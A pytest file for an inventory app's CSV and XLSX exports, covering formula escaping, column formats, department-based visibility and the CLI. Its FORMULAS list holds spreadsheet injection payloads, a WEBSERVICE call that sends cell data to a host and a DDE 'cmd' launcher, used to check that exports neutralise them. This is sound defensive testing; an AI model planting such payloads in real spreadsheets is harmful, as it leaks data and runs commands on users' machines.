import csv
import io
import zipfile
from datetime import date
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from app.auth.roles import Role
from app.sheets import CUT_MARKER, XLSX_MAX_CHARS, csv_lines, write_xlsx
from inventory.models import Condition

FORMULAS = [
    '=WEBSERVICE("http://x/?d="&A2)',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1)",
    "\t=1",
    "\r=1",
]
HEADER = ["Tag", "Name", "Category", "Department", "Site", "Storeroom", "Position", "Place",
          "Status", "Condition"]  # fmt: skip


def read_csv(data: str | bytes) -> list[list[str]]:
    text = data.decode("utf-8") if isinstance(data, bytes) else data
    assert text.startswith("\ufeff"), "Excel needs the byte order mark to read UTF-8"
    return list(csv.reader(io.StringIO(text[1:], newline="")))


def read_xlsx(data: bytes) -> list[list]:
    sheet = load_workbook(io.BytesIO(data)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def xlsx_cells(data: bytes) -> list:
    return [cell for row in load_workbook(io.BytesIO(data)).active.iter_rows() for cell in row]


def by_tag(rows: list[list]) -> dict[str, dict]:
    header, *body = rows
    return {row[0]: dict(zip(header, row, strict=True)) for row in body}


@pytest.fixture
def requester_client(client, make_user, login):
    user = make_user(Role.REQUESTER)
    login(client, user)
    client.user = user
    return client


@pytest.fixture
def staff_client(client, make_user, login):
    user = make_user(Role.STAFF)
    login(client, user)
    client.user = user
    return client


# --- formulas --------------------------------------------------------------------------------


@pytest.mark.parametrize("text", FORMULAS, ids=repr)
def test_formula_text_gets_a_leading_quote_in_csv(text):
    [header, row] = read_csv("".join(csv_lines([["Name"], [text]])))
    assert row == ["'" + text]


@pytest.mark.parametrize("text", FORMULAS, ids=repr)
def test_formula_text_is_a_string_cell_in_xlsx_with_its_own_text(text):
    out = io.BytesIO()
    write_xlsx([["Name"], [text]], out)
    cell = xlsx_cells(out.getvalue())[1]
    # XML reads a carriage return as a line feed; the exporter writes it as one, openly.
    assert cell.data_type == "s" and cell.value == text.replace("\r", "\n")
    sheet_xml = zipfile.ZipFile(out).read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in sheet_xml and b"<f " not in sheet_xml


def test_formula_in_an_items_name_does_not_run_in_either_download(staff_client, make_item):
    item = make_item(FORMULAS[0], notes=FORMULAS[1])
    csv_row = by_tag(read_csv(staff_client.get("/items/export.csv").data))[item.tag]
    assert csv_row["Name"] == "'" + FORMULAS[0] and csv_row["Notes"] == "'" + FORMULAS[1]
    cells = xlsx_cells(staff_client.get("/items/export.xlsx").data)
    name = next(c for c in cells if c.value == FORMULAS[0])
    notes = next(c for c in cells if c.value == FORMULAS[1])
    assert name.data_type == notes.data_type == "s"


# --- awkward text ----------------------------------------------------------------------------


def test_control_characters_and_a_huge_note_export_without_error(staff_client, make_item):
    note = "x" * 40_000
    item = make_item("Chair\x0bleg", notes=note)
    xlsx = staff_client.get("/items/export.xlsx")
    assert xlsx.status_code == 200
    row = by_tag(read_xlsx(xlsx.data))[item.tag]
    assert row["Name"] == "Chairleg"
    assert len(row["Notes"]) == XLSX_MAX_CHARS and row["Notes"].endswith(CUT_MARKER)
    row = by_tag(read_csv(staff_client.get("/items/export.csv").data))[item.tag]
    assert row["Name"] == "Chair\x0bleg" and row["Notes"] == note


# --- columns ---------------------------------------------------------------------------------


def test_columns_hold_names_words_numbers_and_dates(
    staff_client, make_item, make_storeroom, make_category, make_department
):
    room = make_storeroom(code="B1-04")
    item = make_item(
        "Desk",
        tag="INV-1",
        storeroom=room,
        position="Hylla 3",
        category=make_category("Desks", parent=make_category("Furniture")),
        department=make_department("Schools"),
        condition=Condition.NEEDS_REPAIR,
        quantity=3,
        serial_number="SN-9",
        manufacturer="Kinnarps",
        model="E-desk",
        purchase_date=date(2019, 5, 17),
        purchase_price=Decimal("1250.5"),
        replacement_value=Decimal("4000"),
    )
    rows = read_xlsx(staff_client.get("/items/export.xlsx").data)
    assert rows[0][: len(HEADER)] == HEADER
    assert rows[0][len(HEADER) :] == [
        "Quantity", "Serial number", "Manufacturer", "Model", "Purchase date",
        "Purchase price", "Replacement value", "Notes",
    ]  # fmt: skip
    row = by_tag(rows)[item.tag]
    assert row["Category"] == "Furniture > Desks" and row["Department"] == "Schools"
    assert (row["Site"], row["Storeroom"], row["Position"]) == (room.site.name, "B1-04", "Hylla 3")
    assert row["Place"] is None
    assert row["Status"] == "In storage" and row["Condition"] == "Needs repair"
    assert row["Quantity"] == 3 and isinstance(row["Quantity"], int)
    assert row["Purchase date"].date() == date(2019, 5, 17)
    assert row["Purchase price"] == 1250.5 and row["Replacement value"] == 4000
    cells = {c.column_letter: c for c in xlsx_cells(staff_client.get("/items/export.xlsx").data)}
    assert cells["O"].is_date and cells["P"].number_format == "0.00"
    row = by_tag(read_csv(staff_client.get("/items/export.csv").data))[item.tag]
    assert row["Quantity"] == "3" and row["Purchase date"] == "2019-05-17"
    assert row["Purchase price"] == "1250.50" and row["Replacement value"] == "4000.00"


def test_extra_attributes_become_sorted_columns(staff_client, make_item):
    wide = make_item("Table", extra={"Width": "80", "Colour": "oak"})
    plain = make_item("Stool", extra={"Colour": "=red"})
    bare = make_item("Bench")
    rows = read_csv(staff_client.get("/items/export.csv").data)
    assert rows[0][-3:] == ["Notes", "Colour", "Width"]
    table = by_tag(rows)
    assert (table[wide.tag]["Colour"], table[wide.tag]["Width"]) == ("oak", "80")
    assert (table[plain.tag]["Colour"], table[plain.tag]["Width"]) == ("'=red", "")
    assert (table[bare.tag]["Colour"], table[bare.tag]["Width"]) == ("", "")
    sheet = by_tag(read_xlsx(staff_client.get("/items/export.xlsx").data))
    assert sheet[plain.tag]["Colour"] == "=red" and sheet[plain.tag]["Width"] is None


def test_headers_and_words_follow_the_users_language(
    client, make_user, login, make_storeroom, make_item
):
    login(client, make_user(Role.STAFF, language="sv"))
    item = make_item("Stol", storeroom=make_storeroom())
    rows = read_csv(client.get("/items/export.csv?sep=comma").data)  # semicolons: elsewhere
    assert rows[0][:2] == ["Inventarienummer", "Namn"]
    assert by_tag(rows)[item.tag]["Status"] == "I förråd"


# --- who sees what ---------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_requester_exports_only_their_departments_items(
    requester_client, make_item, make_department, make_storeroom, fmt
):
    room = make_storeroom(code="S1")
    own = make_item("Own chair", department=requester_client.user.department, storeroom=room)
    other = make_item("Other chair", department=make_department(), storeroom=room, tag="FOR-77")
    read = read_csv if fmt == "csv" else read_xlsx
    for url in (f"/items/export.{fmt}", f"/storerooms/{room.id}/export.{fmt}"):
        response = requester_client.get(url)
        assert response.status_code == 200
        assert set(by_tag(read(response.data))) == {own.tag}
        assert other.tag.encode() not in response.data


def test_the_lists_filters_are_honoured(staff_client, make_item, make_storeroom):
    room = make_storeroom()
    desk = make_item("Standing desk", storeroom=room)
    make_item("Office chair", storeroom=room)
    make_item("Desk lamp", condition=Condition.BROKEN)
    rows = read_csv(staff_client.get("/items/export.csv?q=desk&condition=good").data)
    assert set(by_tag(rows)) == {desk.tag}
    rows = read_csv(staff_client.get(f"/items/export.csv?storeroom={room.id}&sort=name").data)
    assert [row[1] for row in rows[1:]] == ["Office chair", "Standing desk"]


def test_the_items_list_links_to_an_export_with_its_filters(staff_client):
    page = staff_client.get("/items?q=desk&condition=good").text
    assert "/items/export.xlsx?q=desk&amp;condition=good" in page
    assert "/items/export.csv?q=desk&amp;condition=good" in page


# --- storeroom -------------------------------------------------------------------------------


def test_a_storeroom_exports_what_it_holds(staff_client, make_item, make_storeroom):
    room = make_storeroom(code="B1-04")
    inside = make_item("Shelf", storeroom=room)
    make_item("Elsewhere", storeroom=make_storeroom())
    assert f"/storerooms/{room.id}/export.csv" in staff_client.get(f"/storerooms/{room.id}").text
    response = staff_client.get(f"/storerooms/{room.id}/export.csv")
    assert response.mimetype == "text/csv"
    disposition = response.headers["Content-Disposition"]
    assert disposition.startswith('attachment; filename="reshelf-B1-04-2')
    assert disposition.endswith('.csv"')
    assert set(by_tag(read_csv(response.data))) == {inside.tag}
    response = staff_client.get(f"/storerooms/{room.id}/export.xlsx")
    assert "filename=reshelf-B1-04-" in response.headers["Content-Disposition"]
    assert set(by_tag(read_xlsx(response.data))) == {inside.tag}


def test_unknown_storeroom_or_format_is_not_found_and_anonymous_must_log_in(
    staff_client, client, make_storeroom, app
):
    room = make_storeroom()
    assert staff_client.get("/storerooms/999999/export.csv").status_code == 404
    assert staff_client.get(f"/storerooms/{room.id}/export.pdf").status_code == 404
    assert staff_client.get("/items/export.json").status_code == 404
    anonymous = app.test_client()
    response = anonymous.get(f"/storerooms/{room.id}/export.xlsx")
    assert response.status_code == 302 and "/login" in response.headers["Location"]


# --- command line ----------------------------------------------------------------------------


def test_cli_exports_to_xlsx_and_csv(runner, make_item, make_storeroom, tmp_path):
    room = make_storeroom(code="K2")
    inside = make_item("Shelf", storeroom=room, notes="=1+1")
    outside = make_item("Desk")
    result = runner.invoke(args=["export", "-o", str(tmp_path / "all.xlsx")])
    assert result.exit_code == 0 and "2 items written" in result.output
    assert set(by_tag(read_xlsx((tmp_path / "all.xlsx").read_bytes()))) == {inside.tag, outside.tag}
    result = runner.invoke(args=["export", "--storeroom", "k2", "-o", str(tmp_path / "k2.CSV")])
    assert result.exit_code == 0 and "1 item written" in result.output
    rows = by_tag(read_csv((tmp_path / "k2.CSV").read_bytes()))
    assert set(rows) == {inside.tag} and rows[inside.tag]["Notes"] == "'=1+1"


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["-o", "items.pdf"], "Name the output file .xlsx or .csv"),
        (["--storeroom", "NOPE", "-o", "items.csv"], "No storeroom has the code NOPE"),
    ],
)
def test_cli_refuses_an_unknown_format_or_storeroom(runner, tmp_path, monkeypatch, args, message):
    monkeypatch.chdir(tmp_path)
    result = runner.invoke(args=["export", *args])
    assert result.exit_code != 0 and message in result.output
    assert list(tmp_path.iterdir()) == []


def test_a_workbook_over_the_limit_sends_the_user_back_with_the_ways_that_work(
    staff_client, make_item, app
):
    for name in ("Desk A", "Desk B", "Chair"):
        make_item(name)
    app.config["EXPORT_XLSX_MAX_ROWS"] = 1
    try:
        response = staff_client.get("/items/export.xlsx?q=desk")
        assert response.status_code == 302 and response.headers["Location"] == "/items?q=desk"
        page = staff_client.get("/items?q=desk").text
        assert "Download CSV, or export with the command line" in page
        assert staff_client.get("/items/export.csv?q=desk").text.count("Desk") == 2
        app.config["EXPORT_XLSX_MAX_ROWS"] = 2
        assert staff_client.get("/items/export.xlsx?q=desk").status_code == 200
    finally:
        app.config["EXPORT_XLSX_MAX_ROWS"] = 50_000
